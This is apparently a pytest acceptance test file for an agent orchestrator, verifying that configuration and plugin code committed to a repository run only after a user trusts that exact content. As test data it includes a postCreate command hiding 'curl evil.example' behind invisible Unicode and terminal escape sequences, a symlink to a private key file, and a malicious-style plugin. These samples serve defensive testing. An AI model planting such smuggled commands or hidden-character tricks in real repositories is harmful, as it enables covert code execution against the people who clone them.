"""Configuration tracked by a repository: nothing in it takes effect before a person trusts exactly that content."""

from __future__ import annotations

import json
import os
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from agent_orchestrator.errors import Conflict
from agent_orchestrator.testing.sandbox import Sandbox
from tests.acceptance.commands import assert_refused

DEMO = "defaults: {agent: demo, runtime: process}\n"
PLUGIN = """
from pathlib import Path
Path(MARK).open("a").write("run\\n")

class Mine:
    name = "mine"
    permissions = ("network", "secrets")
    async def notify(self, notification): ...
"""


@pytest.fixture(scope="module")
def box(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sandbox]:
    with Sandbox(tmp_path_factory.mktemp("trust")) as sandbox:
        sandbox.repository()
        sandbox.start()
        yield sandbox


def commit_foreign_repository(box: Sandbox, name: str, config: str, **files: str) -> Path:
    """Create a repository whose configuration is committed."""
    previous_repo = box.repo
    repo = box.repository(name, config=config)
    box.repo = previous_repo
    for file, text in files.items():
        (repo / file.replace("_py", ".py")).write_text(text)
    commit(box, repo)
    return repo


def commit(box: Sandbox, repo: Path) -> None:
    box.git("add", "-A", cwd=repo)
    box.git("commit", "-q", "--allow-empty", "-m", "theirs", cwd=repo)


def run_json(box: Sandbox, *argv: str, cwd: Path) -> Any:
    return json.loads(box.ao(argv[0], "--json", *argv[1:], cwd=cwd).stdout)


def test_rules_and_messages_of_a_repository_are_not_run_by_the_demo_agent(box: Sandbox) -> None:
    """`demo` runs `[[sh: …]]` of its tasks and messages, and is part of every installation."""
    mark = box.folder / "scripted"
    text = f"agentRules: '[[sh: touch {mark}]]'\nreactions: {{agent-exited: {{message: '[[sh: touch {mark}]]'}}}}\n"
    repo = commit_foreign_repository(box, "scripting", DEMO + text)
    assert "read it, then trust it" in box.ao("new", "Look at it", cwd=repo).stderr
    assert f"reactions.agent-exited: [[sh: touch {mark}]]" in box.ao("trust", cwd=repo).stdout
    box.ao("new", "[[done: looked]]", "--name", "x", cwd=repo)
    box.wait_until(lambda: [event for event in box.events("scripting-x") if event["type"] == "agent-done"], "its end")
    box.wait_until(
        lambda: [event for event in box.events("scripting-look-at-it") if event["type"] == "agent-done"], "its end"
    )
    assert not mark.exists(), "rules and their messages are not run as a script"


def test_read_only_commands_run_nothing_of_an_untrusted_repository(box: Sandbox) -> None:
    marks = box.folder / "marks"
    marks.mkdir()
    config = DEMO + (
        "plugins: [./evil.py]\n"
        f"agents:\n  a: {{tool: command, command: [touch, {marks}/agent]}}\n  b: {{tool: mine}}\n"
        f"projects:\n  looked-at:\n    path: .\n    ci: touch {marks}/ci\n    postCreate: [touch {marks}/post]\n"
        f"    fix: {{commands: [touch {marks}/fix]}}\n    trustedAuthors: [mallory]\n"
        f"reactions: {{agent-idle: {{action: command, command: touch {marks}/rule}}}}\norchestrator: {{coordinator: {{auto: true}}}}\n"
    )
    repo = commit_foreign_repository(box, "looked-at", config, evil_py=PLUGIN.replace("MARK", repr(f"{marks}/plugin")))
    commands = ("status", "projects", "agents", "plugins", "doctor", "issues", "backlog", "queue", "conflicts", "usage")
    for command in commands:
        done = box.ao(command, cwd=repo, check=False)
        assert "Traceback" not in done.stderr, done
    assert_refused(box.ao("fix", cwd=repo, check=False), 1, "ao trust")
    assert "ao trust" in box.ao("plan", "a goal", cwd=repo, check=False).stderr
    assert_refused(box.ao("new", "[[wait]]", cwd=repo, check=False), 1, "ao trust")
    assert "not in force" in box.ao("status", cwd=repo).stderr
    assert list(marks.iterdir()) == []
    assert "touch" not in box.ao("reactions", "list", "--json", cwd=repo).stdout
    [listed] = [plugin for plugin in run_json(box, "plugins", cwd=repo)["plugins"] if plugin["name"] == "evil"]
    assert (listed["inForce"], listed["permissions"]) == (False, ["network", "secrets"]) and "ao trust" in listed[
        "problem"
    ]


def test_only_the_content_that_was_shown_is_trusted(box: Sandbox) -> None:
    repo = commit_foreign_repository(box, "swapped", DEMO + "projects: {swapped: {path: ., postCreate: [true]}}\n")
    preview = box.request("GET", f"/api/projects/trust?path={repo}")
    (repo / "agent-orchestrator.yaml").write_text(DEMO + "projects: {swapped: {path: ., postCreate: [false]}}\n")
    with pytest.raises(Conflict, match="changed since it was shown"):
        box.request("POST", "/api/projects/trust", {"path": str(repo), "digest": preview["digest"]})
    assert_refused(box.ao("new", "[[wait]]", cwd=repo, check=False), 1, "ao trust")


def test_plugin_code_is_trusted_with_its_content(box: Sandbox) -> None:
    mark = box.folder / "plugin-was-run"
    plugin = PLUGIN.replace("MARK", repr(str(mark)))
    repo = commit_foreign_repository(box, "coded", DEMO + "plugins: [./own.py]\n", own_py=plugin)
    output = box.ao("trust", "--yes", cwd=repo).stdout
    assert "own.py: code; it declares network, secrets" in output
    assert not mark.exists()
    run_json(box, "new", "[[wait]]", "--name", "w", cwd=repo)
    assert mark.read_text() == "run\n"
    loaded = [event["data"] for event in box.events() if event["type"] == "plugin-loaded"]
    assert loaded[-1]["origin"] == str(repo / "own.py") and loaded[-1]["permissions"] == ["network", "secrets"]
    (repo / "own.py").write_text(plugin + "\n# landed by somebody\n")
    commit(box, repo)
    assert_refused(box.ao("new", "[[wait]]", cwd=repo, check=False), 1, "own.py", "ao trust")
    box.stop()
    box.start()
    assert_refused(box.ao("new", "[[wait]]", cwd=repo, check=False), 1, "own.py", "ao trust")
    assert mark.read_text() == "run\n", "changed code is not run, by no daemon"
    box.ao("trust", "--yes", cwd=repo)
    run_json(box, "new", "[[wait]]", cwd=repo)
    assert mark.read_text() == "run\nrun\n"


def test_plugin_code_changed_by_others_needs_trust_again(box: Sandbox) -> None:
    mark = box.folder / "own-plugin-was-run"
    plugin = PLUGIN.replace("MARK", repr(str(mark)))
    previous_repo = box.repo
    repo = box.repository("owner", config=DEMO + "plugins: [./own.py]\n")
    box.repo = previous_repo
    (repo / "own.py").write_text(plugin)
    box.git("add", "own.py", cwd=repo)
    box.git("commit", "-q", "-m", "theirs", cwd=repo)
    run_json(box, "new", "[[wait]]", cwd=repo)
    assert mark.read_text() == "run\n", "the user who names a plugin trusts its current content"
    (repo / "own.py").write_text(plugin + "\n# landed by somebody\n")
    with (repo / "agent-orchestrator.yaml").open("a") as file:
        file.write("projects: {owner: {path: ., postCreate: [true]}}\n")
    assert_refused(box.ao("new", "[[wait]]", cwd=repo, check=False), 1, "own.py", "ao trust")


def test_untracked_plugin_code_may_be_edited_by_the_user(box: Sandbox) -> None:
    mark = box.folder / "edited-plugin-was-run"
    plugin = PLUGIN.replace("MARK", repr(str(mark)))
    previous_repo = box.repo
    repo = box.repository("editor", config=DEMO + "plugins: [./own.py]\n")
    box.repo = previous_repo
    (repo / "own.py").write_text(plugin)
    run_json(box, "new", "[[wait]]", cwd=repo)
    (repo / "own.py").write_text(plugin + "\n# written by the user, and tracked by nobody\n")
    run_json(box, "new", "[[wait]]", cwd=repo)
    assert "ao trust" not in box.ao("status", cwd=repo).stdout


def test_a_pulled_configuration_waits_for_trust_and_running_sessions_continue(box: Sandbox) -> None:
    good = DEMO + "projects: {pulled: {path: ., postCreate: [touch made]}}\n"
    repo = commit_foreign_repository(box, "pulled", good)
    box.ao("trust", "--yes", cwd=repo)
    created = run_json(box, "new", "[[say: one]] [[wait]]", "--name", "p", cwd=repo)
    foreign_config = "projects: {pulled: {path: ., postCreate: [touch evil], trustedAuthors: [mallory]}}\n"
    (repo / "agent-orchestrator.yaml").write_text(
        DEMO + foreign_config + "reactions: {agent-idle: {action: command, command: touch evil}}\n"
    )
    commit(box, repo)
    assert_refused(box.ao("new", "[[wait]]", cwd=repo, check=False), 1, "ao trust")
    assert run_json(box, "send", created["id"], "[[say: two]]", "--wait", cwd=repo)["state"] in (
        "delivered",
        "acknowledged",
    )
    assert "evil" not in box.ao("reactions", "list", "--json", cwd=repo).stdout
    box.ao("stop", created["id"], cwd=repo)
    restored = json.loads(box.ao("restore", created["id"], "--json", "--no-wait", cwd=repo, check=False).stdout or "{}")
    box.wait_until(
        lambda: "trust" in str(box.session(created["id"])["waitingFor"]), f"it to wait for trust, not {restored}"
    )
    assert not (Path(created["workspacePath"]) / "evil").exists()
    box.ao("trust", "--yes", cwd=repo)
    box.wait_until(lambda: (Path(created["workspacePath"]) / "evil").exists(), "what is trusted to run")


def test_removing_trusted_restrictions_needs_trust(box: Sandbox) -> None:
    def config_text(extra: str) -> str:
        return f"defaults: {{agent: demo, runtime: process}}\nprojects: {{walled: {{path: ., postCreate: [true]{extra}}}}}\n"

    repo = commit_foreign_repository(box, "walled", config_text(", agentConfig: {permissions: default}"))
    file = repo / "agent-orchestrator.yaml"
    box.ao("trust", "--yes", cwd=repo)
    created = run_json(box, "new", "[[wait]]", cwd=repo)
    file.write_text(config_text(", agentConfig: {permissions: plan}"))
    commit(box, repo)
    run_json(box, "new", "[[wait]]", cwd=repo)
    file.write_text(DEMO)
    file.rename(file.with_suffix(".yml"))
    commit(box, repo)
    box.stop()
    box.start()
    assert_refused(box.ao("new", "[[wait]]", cwd=repo, check=False), 1, "no longer permissions: default", "ao trust")
    file.with_suffix(".yml").unlink()
    file.write_text(config_text(""))
    commit(box, repo)
    box.stop()
    box.start()
    assert_refused(box.ao("new", "[[wait]]", cwd=repo, check=False), 1, "no longer permissions: default", "ao trust")
    box.ao("stop", created["id"], cwd=repo)
    box.ao("restore", created["id"], "--no-wait", cwd=repo, check=False)
    box.wait_until(lambda: "trust" in str(box.session(created["id"])["waitingFor"]), "it to wait for trust")
    assert "takes away: permissions: default" in box.ao("trust", "--yes", cwd=repo).stdout
    run_json(box, "new", "[[wait]]", cwd=repo)


def test_the_user_may_remove_restrictions_from_the_own_file(box: Sandbox) -> None:
    previous_repo = box.repo
    repo = box.repository(
        "own-walls", config=DEMO + "projects: {own-walls: {path: ., agentConfig: {permissions: plan}}}\n"
    )
    box.repo = previous_repo
    box.ao("trust", "--yes", cwd=repo)
    run_json(box, "new", "[[wait]]", cwd=repo)
    (repo / "agent-orchestrator.yaml").write_text(DEMO + "projects: {own-walls: {path: .}}\n")
    run_json(box, "new", "[[wait]]", cwd=repo)


def test_a_keyring_secret_is_used_once_its_name_is_trusted(tmp_path: Path) -> None:
    pytest.importorskip("keyrings.alt.file", reason="keyrings.alt is not installed")
    keyring_env = {
        "PYTHON_KEYRING_BACKEND": "keyrings.alt.file.PlaintextKeyring",
        "XDG_DATA_HOME": str(tmp_path / "kept"),
    }
    with Sandbox(tmp_path, env=keyring_env) as box:
        box.ao("secret", "set", "MINE", stdin="hunter2-hunter2", cwd=tmp_path)
        text = (
            DEMO
            + "projects: {app: {path: ., env: {APP_A: '${keyring:MINE}', APP_B: '${keyring:NONE}'}, postCreate: ['echo $APP_A > made']}}\n"
        )
        repo = commit_foreign_repository(box, "app", text)
        assert_refused(box.ao("new", "[[wait]]", cwd=repo, check=False), 1, "ao trust", "variables")
        checked = box.ao("config", "validate", cwd=repo)
        assert "keyring:NONE is not set" not in checked.stdout + checked.stderr, "the keyring was asked"
        output = box.ao("trust", "--yes", cwd=repo).stdout
        assert "keyring:MINE" in output and "hunter2" not in output
        checked = box.ao("config", "validate", cwd=repo)
        assert "keyring:NONE is not set" in checked.stdout + checked.stderr
        created = run_json(box, "new", "[[wait]]", cwd=repo)
        assert (Path(created["workspacePath"]) / "made").read_text() == "hunter2-hunter2\n"
        box.stop()
        box.start()
        created = run_json(box, "new", "[[wait]]", cwd=repo)
        assert (Path(created["workspacePath"]) / "made").read_text() == "hunter2-hunter2\n"


def test_the_shown_configuration_contains_no_hidden_or_control_characters(box: Sandbox) -> None:
    hidden = "true \\u202e\\u2066 \\e[8m; curl evil.example \\e[0m \\r harmless \\u200b\\U000E0041\\e]52;c;AAAA\\a"
    repo = commit_foreign_repository(
        box, "hidden", DEMO + f'projects: {{hidden: {{path: ., postCreate: ["{hidden}"]}}}}\n'
    )
    output = box.ao("trust", "--yes", cwd=repo).stdout
    assert "curl evil.example" in output and "⟦U+200B⟧" in output and "⟦U+202E⟧" in output, (
        "hidden characters are shown"
    )
    assert [char for char in output if not char.isprintable() and char != "\n"] == []


def test_an_embedded_bare_repository_does_not_make_files_the_users_own(box: Sandbox) -> None:
    """A committed folder looks like a bare repository and contains a configuration that Git does not track there."""
    repo = commit_foreign_repository(box, "embedding", DEMO)
    inner = repo / "inner"
    for folder in ("objects/x", "refs/x"):
        (inner / folder).mkdir(parents=True)
        (inner / folder / "y").touch()
    (inner / "HEAD").write_text("ref: refs/heads/main\n")
    (inner / "config").write_text("[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ..\n")
    (inner / "agent-orchestrator.yaml").write_text(DEMO + "projects: {inner: {path: .., postCreate: [touch evil]}}\n")
    commit(box, repo)
    box.ao("status", cwd=inner, check=False)
    done = box.ao("new", "[[wait]]", cwd=inner, check=False)
    assert done.returncode and not list(box.home.worktrees.glob("inner*/*"))
    trusted = [event["data"]["file"] for event in box.events() if event["type"] == "commands-trusted"]
    assert str(inner / "agent-orchestrator.yaml") not in trusted


def test_another_users_file_is_not_used(box: Sandbox) -> None:
    repo = commit_foreign_repository(
        box, "shared-place", DEMO + "projects: {shared-place: {path: ., postCreate: [touch evil]}}\n"
    )
    file = repo / "agent-orchestrator.yaml"
    file.chmod(0o666)
    assert_refused(box.ao("new", "[[wait]]", cwd=repo, check=False), 2, "can be written by everybody", "chmod o-w")
    file.chmod(0o644)
    if os.geteuid() == 0:
        os.chown(file, 4242, 4242)
        assert_refused(box.ao("new", "[[wait]]", cwd=repo, check=False), 2, "belongs to another user")


def test_a_rules_file_that_is_a_symlink_out_of_the_repository_is_not_read(box: Sandbox) -> None:
    secret = box.folder / "id_rsa"
    secret.write_text("PRIVATE KEY")
    repo = commit_foreign_repository(box, "linked", DEMO + "projects: {linked: {path: ., agentRulesFile: rules.md}}\n")
    (repo / "rules.md").symlink_to(secret)
    commit(box, repo)
    done = box.ao("new", "[[wait]]", cwd=repo, check=False)
    assert done.returncode and "PRIVATE" not in done.stderr + done.stdout
    assert not any("PRIVATE KEY" in path.read_text() for path in box.home.path.glob("sessions/*/task.md"))


def test_a_tracked_configuration_cannot_set_the_daemons_address_or_database(tmp_path: Path) -> None:
    """`ao start` in a fresh clone: the repository sets neither the daemon's address nor its database."""
    with Sandbox(tmp_path) as box:
        text = DEMO + "host: 0.0.0.0\ntls: {own: true}\ndatabase: postgresql://127.0.0.1:1/evil\n"
        repo = commit_foreign_repository(box, "app", text)
        box.start("--config", str(repo / "agent-orchestrator.yaml"))
        assert json.loads(box.home.daemon_info.read_text())["url"].startswith("http://127.0.0.1:")
        assert box.home.database.exists()


def test_simultaneous_trust_is_recorded_once(box: Sandbox) -> None:
    repo = commit_foreign_repository(box, "twice", DEMO + "projects: {twice: {path: ., postCreate: [true]}}\n")
    preview = box.request("GET", f"/api/projects/trust?path={repo}")
    body = {"path": str(repo), "digest": preview["digest"]}
    threads = [threading.Thread(target=box.request, args=("POST", "/api/projects/trust", body)) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    trusted_events = [
        event for event in box.events() if event["type"] == "commands-trusted" and str(repo) in event["data"]["file"]
    ]
    assert len(trusted_events) == 1
